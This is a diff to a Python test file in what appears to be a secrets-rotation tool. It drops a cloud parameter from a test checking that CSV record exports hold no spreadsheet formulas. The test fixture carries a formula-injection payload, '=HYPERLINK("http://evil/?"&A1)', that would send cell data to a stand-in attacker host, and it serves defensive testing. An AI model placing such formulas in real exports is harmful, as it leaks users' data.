@@ -15,7 +15,6 @@ from gateway.commands.shared.output import note, warn
 from gateway.errors import Failed
 from gateway.host.report import Report, Stderr
 from gateway.host.shown import LONGEST, cell, shown
-from gateway.model.clouds import CLOUDS
 from gateway.secret import Secret
 from tests.stage.command import command
 from tests.stage.rotation import SCRIPT, Stage
@@ -49,9 +48,8 @@ def test_a_spreadsheet_is_given_no_formula(text: str) -> None:
 
 @pytest.mark.parametrize("form", [web_vault_csv, commander_csv])
 def test_a_file_of_records_holds_no_formula(form: object) -> None:
-    cloud = CLOUDS["AzureCloud"]
     item = Item("application_object_id", "0" * 8, '=HYPERLINK("http://evil/?"&A1)\x1b', "tenant", datetime.now(UTC))
-    rows = list(csv.reader(io.StringIO(form([new_record(item, cloud)], "-folder"))))  # type: ignore[operator]
+    rows = list(csv.reader(io.StringIO(form([new_record(item)], "-folder"))))  # type: ignore[operator]
     cells = [text for row in rows for text in row]
     assert any("HYPERLINK" in text for text in cells)
     assert not [text for text in cells if text.startswith(tuple("=+-@")) or not text.isprintable()]
